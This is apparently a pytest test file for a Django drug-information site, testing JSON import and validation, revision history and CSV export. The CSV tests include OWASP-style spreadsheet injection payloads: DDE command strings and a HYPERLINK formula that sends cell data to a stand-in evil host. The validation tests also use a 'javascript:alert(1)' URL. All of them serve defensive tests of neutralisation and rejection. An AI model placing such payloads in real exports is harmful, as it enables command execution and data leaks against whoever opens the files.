import csv
import datetime
import io
import json
import re
from pathlib import Path

import pytest

from drugs import interchange
from drugs.models import (
    ApprovalStatus,
    AssistanceProgram,
    CancerType,
    Company,
    Drug,
    DrugClass,
    GenericAvailability,
    ProgramKind,
    PublicationStatus,
    Reviewer,
)
from tests.factories import (
    make_cancer_type,
    make_class,
    make_company,
    make_drug,
    make_program,
    make_user,
)

pytestmark = pytest.mark.django_db


WEB_ADDRESS = "Enter a web address that starts with http:// or https://."


def record(**fields):
    return {"brand_name": "Pomalyst", "generic_name": "pomalidomide", **fields}


def run(*records, source="drugs.json", **options):
    return interchange.run_import(json.dumps(list(records)), source=source, **options)


def problems_of(data):
    with pytest.raises(interchange.InvalidFile) as error:
        interchange.run_import(data if isinstance(data, str) else json.dumps(data))
    return [(problem.index, problem.field) for problem in error.value.problems]


# Reading: what a record may say ---------------------------------------------------------------


def test_a_minimal_record_creates_a_published_drug_with_defaults():
    result = run(record())

    drug = Drug.objects.get()
    assert str(result) == "1 created, 0 updated, 0 unchanged."
    assert (drug.slug, drug.brand_name, drug.generic_name) == (
        "pomalyst",
        "Pomalyst",
        "pomalidomide",
    )
    assert drug.status == PublicationStatus.PUBLISHED
    assert drug.approval_status == ApprovalStatus.APPROVED
    assert drug.generic_available == GenericAvailability.NO


def test_a_full_record_sets_every_field():
    run(
        record(
            slug="pomalyst-capsules",
            other_names=["CC-4047", "Imnovid"],
            pronunciation="poe-MAL-ist",
            drug_classes=["Immunotherapy Medications", "Targeted Therapy"],
            companies=["Bristol Myers Squibb"],
            cancer_types=["Multiple Myeloma", "Kaposi Sarcoma"],
            approval_status="Accelerated approval",
            first_approved_year=2013,
            generic_available="Biosimilar",
            indication="For *myeloma*.",
            general_info="Info.",
            dosage="4 mg.",
            side_effects="Fatigue.",
            more_info_url="https://www.pomalyst.com/",
            last_reviewed="2020-05-19",
            reviewed_by={"name": "Jane Doe", "credentials": "PharmD"},
            review_interval_months=6,
            status="draft",
        )
    )

    drug = Drug.objects.with_monograph_relations().get()
    assert drug.slug == "pomalyst-capsules"
    assert ("also known as", ["CC-4047", "Imnovid"]) in drug.labelled_names
    assert drug.pronunciation == "poe-MAL-ist"
    assert [c.name for c in drug.ordered_classes] == [
        "Immunotherapy Medications",
        "Targeted Therapy",
    ]
    assert [c.slug for c in drug.ordered_classes] == [
        "immunotherapy-medications",
        "targeted-therapy",
    ]
    assert [c.name for c in drug.companies.all()] == ["Bristol Myers Squibb"]
    assert [c.name for c in drug.cancer_types.all()] == ["Kaposi Sarcoma", "Multiple Myeloma"]
    assert drug.approval_status == ApprovalStatus.ACCELERATED
    assert drug.first_approved_year == 2013
    assert drug.generic_available == GenericAvailability.BIOSIMILAR
    assert (drug.indication, drug.general_info, drug.dosage, drug.side_effects) == (
        "For *myeloma*.",
        "Info.",
        "4 mg.",
        "Fatigue.",
    )
    assert drug.more_info_url == "https://www.pomalyst.com/"
    assert drug.last_reviewed == datetime.date(2020, 5, 19)
    assert drug.next_review_due == datetime.date(2020, 11, 19)
    assert str(drug.reviewed_by) == "Jane Doe, PharmD"
    assert drug.status == PublicationStatus.DRAFT


@pytest.mark.parametrize(
    ("label", "expected"),
    [
        ("Approved", "approved"),
        ("APPROVED", "approved"),
        ("accelerated approval", "accelerated"),
        ("Accelerated", "accelerated"),
        ("investigational", "investigational"),
        (" Withdrawn ", "withdrawn"),
    ],
)
def test_approval_status_labels_are_read_in_any_case(label, expected):
    run(record(approval_status=label))

    assert Drug.objects.get().approval_status == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Yes", "yes"),
        ("no", "no"),
        (True, "yes"),
        (False, "no"),
        ("Biosimilar", "biosimilar"),
        ("biosimilar available", "biosimilar"),
    ],
)
def test_generic_available_accepts_words_and_booleans(value, expected):
    run(record(generic_available=value))

    assert Drug.objects.get().generic_available == expected


def test_single_drug_class_and_company_strings_are_accepted_and_kept_whole():
    run(record(drug_class="Immunotherapy Medications", company="Bristol Myers Squibb/Celgene"))

    drug = Drug.objects.get()
    assert [c.name for c in drug.drug_classes.all()] == ["Immunotherapy Medications"]
    assert [c.name for c in drug.companies.all()] == ["Bristol Myers Squibb/Celgene"]
    assert Company.objects.get().slug == "bristol-myers-squibbcelgene"


def test_known_names_are_reused_whatever_their_case():
    immunotherapy = make_class("Immunotherapy Medications")
    bms = make_company("Bristol Myers Squibb")
    myeloma = make_cancer_type("Multiple Myeloma")

    run(
        record(
            drug_classes=["immunotherapy medications"],
            companies=["BRISTOL MYERS SQUIBB"],
            cancer_types=["Multiple Myeloma"],
        )
    )

    drug = Drug.objects.get()
    assert list(drug.drug_classes.all()) == [immunotherapy]
    assert list(drug.companies.all()) == [bms]
    assert list(drug.cancer_types.all()) == [myeloma]
    assert (DrugClass.objects.count(), Company.objects.count(), CancerType.objects.count()) == (
        1,
        1,
        1,
    )


def test_a_name_can_carry_its_own_slug():
    run(record(companies=[{"name": "Bristol Myers Squibb/Celgene", "slug": "bms-celgene"}]))

    assert Company.objects.get().slug == "bms-celgene"


def test_program_urls_become_programs_of_the_first_company():
    run(
        record(
            companies=["Bristol Myers Squibb", "Zeta Pharma"],
            copay_program_url="https://example.org/copay",
            assistance_program_url="https://example.org/pap",
        )
    )

    drug = Drug.objects.with_monograph_relations().get()
    (copay,) = drug.copay_programs
    (assistance,) = drug.patient_assistance_programs
    assert (copay.company.name, copay.url) == ("Bristol Myers Squibb", "https://example.org/copay")
    assert copay.name == "Bristol Myers Squibb co-pay program"
    assert (assistance.company.name, assistance.url) == (
        "Bristol Myers Squibb",
        "https://example.org/pap",
    )


def test_a_program_url_links_the_companys_program_with_that_address():
    bms = make_company("Bristol Myers Squibb")
    shared = make_program(bms, name="BMS Access Support", url="https://example.org/copay")

    run(record(companies=["Bristol Myers Squibb"], copay_program_url="https://example.org/copay"))

    assert list(Drug.objects.get().assistance_programs.all()) == [shared]
    assert AssistanceProgram.objects.count() == 1


def test_a_changed_program_url_updates_the_drugs_program():
    bms = make_company("Bristol Myers Squibb")
    drug = make_drug("Pomalyst", generic_name="pomalidomide", companies=[bms])
    program = make_program(bms, drugs=[drug], url="https://example.org/old")

    result = run(record(copay_program_url="https://example.org/new"))

    program.refresh_from_db()
    assert result.updated == 1
    assert program.url == "https://example.org/new"
    assert list(drug.assistance_programs.all()) == [program]


def test_full_assistance_programs_are_matched_by_company_and_name():
    bms = make_company("Bristol Myers Squibb")
    make_program(bms, name="BMS Foundation", url="https://example.org/old", kind="foundation")

    run(
        record(
            companies=["Bristol Myers Squibb"],
            assistance_programs=[
                {
                    "company": "Bristol Myers Squibb",
                    "kind": "foundation",
                    "name": "BMS Foundation",
                    "url": "https://example.org/foundation",
                    "phone": "800-555-0100",
                    "notes": "Income limits apply.",
                }
            ],
        )
    )

    program = AssistanceProgram.objects.get()
    assert (program.url, program.phone, program.notes) == (
        "https://example.org/foundation",
        "800-555-0100",
        "Income limits apply.",
    )
    assert list(program.drugs.all()) == [Drug.objects.get()]


# Reading: invalid files ------------------------------------------------------------------------


def test_bad_json_is_one_problem_for_the_whole_file():
    with pytest.raises(interchange.InvalidFile) as error:
        interchange.run_import('[{"brand_name": "Pomalyst",', source="broken.json")

    (problem,) = error.value.problems
    assert problem.index is None
    assert str(problem).startswith("File: not valid JSON")


def test_a_file_nested_too_deeply_is_refused_not_crashed_on():
    assert problems_of("[" * 100_000 + "]" * 100_000) == [(None, "")]


def test_a_file_that_is_not_a_list_is_refused():
    assert problems_of({"brand_name": "Pomalyst"}) == [(None, "")]


def test_every_bad_record_is_reported_with_its_index_and_field_and_nothing_changes():
    existing = make_drug("Keytruda", generic_name="pembrolizumab")
    data = [
        record(brand_name="Revlimid", generic_name="lenalidomide"),  # fine
        {"generic_name": "nivolumab"},  # no brand name
        record(brand_name="Opdivo", approval_status="Sort of approved"),
        record(brand_name="Yervoy", first_approved_year="last year", drug_classes=42),
        record(brand_name="Keytruda", last_reviewed="19/05/2020", generic_available="maybe"),
        "not an object",
        record(brand_name="Tecentriq", more_info_url="javascript:alert(1)", colour="red"),
        record(brand_name="Imfinzi", generic_name=""),
    ]

    problems = problems_of(data)

    assert problems == [
        (1, "brand_name"),
        (2, "approval_status"),
        (3, "drug_classes"),
        (3, "first_approved_year"),
        (4, "generic_available"),
        (4, "last_reviewed"),
        (5, "(record)"),
        (6, "colour"),
        (6, "more_info_url"),
        (7, "generic_name"),
    ]
    assert list(Drug.objects.all()) == [existing]
    assert Drug.objects.get().generic_name == "pembrolizumab"
    assert not DrugClass.objects.exists()


def test_problem_messages_say_what_is_wrong():
    with pytest.raises(interchange.InvalidFile) as error:
        run(record(approval_status="Sort of approved"), {"generic_name": "x"})

    assert str(error.value).splitlines() == [
        "Record 1 (Pomalyst), approval_status: 'Sort of approved' is not one of 'Approved', "
        "'Accelerated approval', 'Investigational', 'Withdrawn'",
        "Record 2, brand_name: is required",
    ]


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"first_approved_year": 1899}, "Ensure this value is greater than or equal to 1900."),
        ({"first_approved_year": "²"}, "“²” value must be an integer."),
        ({"review_interval_months": 121}, "Ensure this value is less than or equal to 120."),
        ({"review_interval_months": None}, "This field cannot be null."),
        (
            {"last_reviewed": "2024-02-30"},
            "“2024-02-30” value has the correct format (YYYY-MM-DD) but it is an invalid date.",
        ),
        (
            {"slug": "not a slug"},
            "Enter a valid “slug” consisting of letters, numbers, underscores or hyphens.",
        ),
        ({"more_info_url": "javascript:alert(1)"}, f"Enter a valid URL. {WEB_ADDRESS}"),
        ({"copay_program_url": "ftp://example.org/"}, WEB_ADDRESS),
        (
            {"pronunciation": "x" * 101},
            "Ensure this value has at most 100 characters (it has 101).",
        ),
        ({"changed_since_review": "yes"}, "must be true or false, not a string"),
    ],
)
def test_a_value_is_checked_by_its_model_field_as_in_the_admin(fields, message):
    with pytest.raises(interchange.InvalidFile) as error:
        run(record(**fields))

    (name,) = fields
    assert str(error.value) == f"Record 1 (Pomalyst), {name}: {message}"


def test_a_new_drug_needs_a_generic_name():
    assert problems_of([{"brand_name": "Pomalyst"}]) == [(0, "generic_name")]


def test_two_records_for_the_same_drug_are_refused():
    assert problems_of([record(), record(generic_name="again")]) == [(1, "slug")]


def test_a_program_url_needs_a_company():
    assert problems_of([record(copay_program_url="https://example.org/")]) == [
        (0, "copay_program_url")
    ]


def test_a_program_kind_given_twice_is_refused():
    program = {
        "company": "BMS",
        "kind": "copay",
        "name": "BMS co-pay",
        "url": "https://example.org/a",
    }
    data = [
        record(
            companies=["BMS"],
            assistance_programs=[program],
            copay_program_url="https://example.org/b",
        )
    ]

    assert problems_of(data) == [(0, "copay_program_url")]


def test_a_bad_program_is_named_by_its_place_from_1_and_its_field():
    programs = [
        {"company": "BMS", "kind": "copay", "name": "BMS co-pay", "url": "https://example.org/"},
        {"company": "BMS", "kind": "foundation", "name": "BMS fund", "url": "ftp://example.org/"},
    ]
    with pytest.raises(interchange.InvalidFile) as error:
        interchange.run_import(json.dumps([record(assistance_programs=programs)]))

    assert str(error.value) == (
        "Record 1 (Pomalyst), assistance_programs: program 2, url: " + WEB_ADDRESS
    )


def test_a_preview_shows_choices_and_the_changed_section_by_their_labels():
    make_drug(
        "Pomalyst", generic_name="pomalidomide", approval_status="approved", dosage="4 mg a day."
    )
    data = [record(approval_status="accelerated", dosage="2 mg a day.")]

    (item,) = interchange.read(json.dumps(data)).items

    changes = {name: (label, old, new) for name, label, old, new, _ in item.field_changes()}
    assert changes == {
        "approval_status": ("Approval status", "Approved", "Accelerated approval"),
        "dosage": ("Dosing info", "4 mg a day.", "2 mg a day."),
    }


def test_a_file_that_is_not_utf8_is_refused():
    with pytest.raises(interchange.InvalidFile) as error:
        interchange.run_import(b'[{"brand_name": "\xff"}]')

    assert str(error.value).startswith("File: not a UTF-8 text file")


# Re-importing --------------------------------------------------------------------------------


def test_reimporting_updates_in_place_matched_by_slug():
    drug = make_drug("Pomalyst", slug="pomalyst", generic_name="pomalidomide")

    result = run(record(brand_name="POMALYST (capsules)", slug="pomalyst", dosage="4 mg."))

    drug.refresh_from_db()
    assert str(result) == "0 created, 1 updated, 0 unchanged."
    assert Drug.objects.count() == 1
    assert (drug.brand_name, drug.dosage) == ("POMALYST (capsules)", "4 mg.")


def test_reimporting_matches_by_brand_name_when_there_is_no_slug():
    drug = make_drug("Pomalyst", slug="pomalyst-old", generic_name="pomalidomide")

    run(record(brand_name="pomalyst", dosage="4 mg."))

    drug.refresh_from_db()
    assert Drug.objects.count() == 1
    assert (drug.slug, drug.dosage) == ("pomalyst-old", "4 mg.")


def test_a_new_slug_for_a_drug_found_by_brand_name_renames_it_and_keeps_the_old_address():
    drug = make_drug("Pomalyst", slug="pomalyst-old", generic_name="pomalidomide")

    run(record(slug="pomalyst"))

    drug.refresh_from_db()
    assert drug.slug == "pomalyst"
    assert list(drug.old_paths.values_list("path", flat=True)) == ["/drug/pomalyst-old"]


def test_fields_a_record_leaves_out_are_left_alone_on_update():
    drug = make_drug(
        "Pomalyst",
        generic_name="pomalidomide",
        status=PublicationStatus.ARCHIVED,
        classes=[make_class("Immunotherapy")],
        dosage="4 mg.",
    )

    run({"brand_name": "Pomalyst", "side_effects": "Fatigue."})

    drug.refresh_from_db()
    assert (drug.status, drug.dosage, drug.side_effects) == ("archived", "4 mg.", "Fatigue.")
    assert [c.name for c in drug.drug_classes.all()] == ["Immunotherapy"]


def test_reimporting_the_same_file_changes_nothing_and_writes_no_revision():
    text = json.dumps([record(drug_classes=["A"], companies=["B"], cancer_types=["C"])])
    interchange.run_import(text)

    result = interchange.run_import(text)

    assert str(result) == "0 created, 0 updated, 1 unchanged."
    assert Drug.history.count() == 1


def test_imports_are_revisions_with_a_change_note():
    drug = make_drug("Pomalyst", generic_name="pomalidomide")

    run(record(dosage="4 mg."), record(brand_name="Revlimid"), source="batch-7.json")

    revisions = Drug.history.filter(history_change_reason="Imported from batch-7.json")
    assert sorted((r.brand_name, r.history_type) for r in revisions) == [
        ("Pomalyst", "~"),
        ("Revlimid", "+"),
    ]
    assert drug.history.latest().dosage == "4 mg."


def test_a_relation_change_alone_is_still_a_revision():
    drug = make_drug("Pomalyst", generic_name="pomalidomide")

    run(record(cancer_types=["Multiple Myeloma"]), source="types.json")

    assert drug.history.latest().history_change_reason == "Imported from types.json"


def test_imported_revisions_record_the_relations_they_set():
    data = record(drug_classes=["B class", "A class"], companies=["Celgene"], cancer_types=["X"])
    run(data)
    drug = Drug.objects.get()
    created = drug.history.get()
    by_name = {c.name: c.pk for c in drug.drug_classes.all()}
    assert created.relations == {
        "drug_classes": [by_name["B class"], by_name["A class"]],
        "companies": [drug.companies.get().pk],
        "cancer_types": [drug.cancer_types.get().pk],
    }

    run(record(drug_classes=["A class"], companies=[], cancer_types=["X"]))

    assert drug.history.count() == 2
    assert drug.history.latest().relations == {
        "drug_classes": [by_name["A class"]],
        "companies": [],
        "cancer_types": created.relations["cancer_types"],
    }


def test_without_publish_permission_records_may_not_publish_or_unpublish():
    make_drug("Keytruda", generic_name="pembrolizumab")
    make_drug("Opdivo", generic_name="nivolumab")
    data = [
        record(status="draft"),
        record(brand_name="Revlimid"),
        {"brand_name": "Keytruda", "status": "archived"},
        {"brand_name": "Opdivo", "dosage": "240 mg."},
    ]

    plan = interchange.read(json.dumps(data), user=make_user(groups=["Editor"]))

    assert [(p.index, p.field) for p in plan.problems] == [(1, "status"), (2, "status")]


# Planning (what the preview shows) ---------------------------------------------------------


def test_the_plan_says_what_would_be_created_updated_and_left_alone():
    make_class("Immunotherapy Medications")
    make_drug("Keytruda", generic_name="pembrolizumab", indication="Old.")
    make_drug("Opdivo", generic_name="nivolumab", indication="Same.")

    plan = interchange.read(
        json.dumps(
            [
                record(drug_classes=["Immunotherapy Medications", "New Class"]),
                {"brand_name": "Keytruda", "indication": "New."},
                {"brand_name": "Opdivo", "indication": "Same."},
            ]
        )
    )

    assert plan.is_valid
    assert [(item.brand_name, item.action) for item in plan.items] == [
        ("Pomalyst", "create"),
        ("Keytruda", "update"),
        ("Opdivo", "unchanged"),
    ]
    assert plan.to_update[0].changes == ["indication"]
    assert plan.new_names == {
        "drug_classes": ["New Class"],
        "companies": [],
        "cancer_types": [],
    }
    assert Drug.objects.count() == 2


# Writing ------------------------------------------------------------------------------------


def test_a_drug_is_written_as_an_interchange_record():
    myeloma = make_cancer_type("Multiple Myeloma")
    bms = make_company("Bristol Myers Squibb/Celgene", slug="bms-celgene")
    drug = make_drug(
        "Pomalyst",
        generic_name="pomalidomide",
        other_names="CC-4047\nImnovid",
        classes=[make_class("Immunotherapy Medications")],
        companies=[bms],
        approval_status="accelerated",
        generic_available="biosimilar",
        last_reviewed=datetime.date(2020, 5, 19),
        reviewed_by=Reviewer.objects.create(name="Jane Doe", credentials="PharmD"),
    )
    drug.cancer_types.set([myeloma])
    make_program(bms, drugs=[drug], name="BMS co-pay", url="https://example.org/copay")

    (written,) = interchange.records(Drug.objects.all())

    assert written == {
        "brand_name": "Pomalyst",
        "slug": "pomalyst",
        "generic_name": "pomalidomide",
        "abbreviations": [],
        "other_market_names": [],
        "experimental_codes": [],
        "other_names": ["CC-4047", "Imnovid"],
        "pronunciation": "",
        "drug_classes": ["Immunotherapy Medications"],
        "companies": [{"name": "Bristol Myers Squibb/Celgene", "slug": "bms-celgene"}],
        "cancer_types": ["Multiple Myeloma"],
        "approval_status": "Accelerated approval",
        "approval_status_label": "",
        "first_approved_year": None,
        "generic_available": "Biosimilar",
        "boxed_warning": "",
        "indication": "Pomalyst is approved for a cancer.",
        "general_info": "",
        "dosage": "",
        "side_effects": "",
        "drug_interactions": "",
        "other_info": "",
        "more_info_url": "",
        "assistance_programs": [
            {
                "company": "Bristol Myers Squibb/Celgene",
                "kind": "copay",
                "name": "BMS co-pay",
                "url": "https://example.org/copay",
                "phone": "",
                "notes": "",
            }
        ],
        "old_paths": [],
        "last_reviewed": "2020-05-19",
        "reviewed_by": {"name": "Jane Doe", "credentials": "PharmD"},
        "review_note": "",
        "review_interval_months": 12,
        "changed_since_review": False,
        "status": "published",
    }


def test_what_is_written_reads_back_unchanged():
    bms = make_company("Bristol Myers Squibb/Celgene", slug="bms-celgene")
    drug = make_drug(
        "Pomalyst",
        classes=[make_class("B class"), make_class("A class")],
        companies=[bms],
        reviewed_by=Reviewer.objects.create(name="Jane Doe", credentials="PharmD"),
    )
    make_program(bms, drugs=[drug], kind=ProgramKind.FOUNDATION)

    plan = interchange.read(interchange.dumps(Drug.objects.all()))

    assert plan.is_valid, plan.problems
    assert [item.action for item in plan.items] == ["unchanged"]
    assert Reviewer.objects.count() == 1


def test_csv_neutralises_spreadsheet_formulas():
    make_drug('=HYPERLINK("http://evil")', slug="evil", generic_name="+cmd|' /C calc'!A0")
    make_drug("Safe", generic_name="-1", other_names="@SUM(A1)\n\tTab")

    stream = io.StringIO()
    interchange.write_csv(Drug.objects.order_by("slug"), stream)

    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert rows[0]["brand_name"] == '\'=HYPERLINK("http://evil")'
    assert rows[0]["generic_name"] == "'+cmd|' /C calc'!A0"
    assert rows[1]["generic_name"] == "'-1"
    assert rows[1]["other_names"] == "'@SUM(A1); Tab"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


# OWASP's CSV injection examples, and the characters it lists as formula triggers.
OWASP_CSV_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
    "=10+20+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", OWASP_CSV_PAYLOADS)
def test_csv_neutralises_formulas_within_list_cells(payload):
    make_drug(
        "Safe",
        generic_name=payload,
        other_names=f"safe\n{payload.strip()}",
        classes=[make_class("Safe class"), make_class(payload.strip())],
        companies=[make_company("Acme"), make_company(payload.strip(), slug="payload")],
    )
    stream = io.StringIO()
    interchange.write_csv(Drug.objects.all(), stream)
    (row,) = csv.DictReader(io.StringIO(stream.getvalue()))
    for column in ["generic_name", "other_names", "drug_classes", "companies"]:
        for item in row[column].split(interchange.CSV_LIST_SEPARATOR):
            assert not item.startswith(interchange.FORMULA_TRIGGERS), (column, row[column])


def test_csv_has_a_row_per_drug_with_readable_labels():
    drug = make_drug(
        "Pomalyst",
        generic_name="pomalidomide",
        classes=[make_class("Immunotherapy")],
        companies=[make_company("BMS")],
        approval_status="accelerated",
        last_reviewed=datetime.date(2020, 5, 19),
    )
    make_program(drug.companies.get(), drugs=[drug], url="https://example.org/copay")

    stream = io.StringIO()
    interchange.write_csv(Drug.objects.all(), stream)

    (row,) = csv.DictReader(io.StringIO(stream.getvalue()))
    assert row["brand_name"] == "Pomalyst"
    assert row["drug_classes"] == "Immunotherapy"
    assert row["companies"] == "BMS"
    assert row["approval_status"] == "Accelerated approval"
    assert row["status"] == "Published"
    assert row["last_reviewed"] == "2020-05-19"
    assert row["next_review_due"] == "2021-05-19"
    assert row["review_state"] == "Overdue"
    assert row["copay_program_url"] == "https://example.org/copay"


def test_writing_takes_a_fixed_number_of_queries(django_assert_max_num_queries):
    bms = make_company("BMS")
    for number in range(10):
        drug = make_drug(f"Drug{number}", classes=[make_class()], companies=[bms])
        make_program(bms, drugs=[drug])
        drug.cancer_types.set([make_cancer_type()])

    with django_assert_max_num_queries(6):
        interchange.dumps(Drug.objects.all())
    with django_assert_max_num_queries(6):
        interchange.write_csv(Drug.objects.all(), io.StringIO())


def test_the_documented_example_imports():
    docs = Path(__file__).resolve().parents[1] / "docs" / "interchange.md"
    example = re.search(r"```json\n(.*?)```", docs.read_text(), re.DOTALL).group(1)

    result = interchange.run_import(example, source="interchange.md")

    assert str(result) == "2 created, 0 updated, 0 unchanged."
    revlimid = Drug.objects.get(slug="revlimid")
    assert [c.name for c in revlimid.companies.all()] == ["Bristol Myers Squibb/Celgene"]
    assert revlimid.generic_available == GenericAvailability.YES


def test_experimental_is_another_name_for_investigational():
    run(record(approval_status="Experimental"))

    assert Drug.objects.get(slug="pomalyst").approval_status == "investigational"
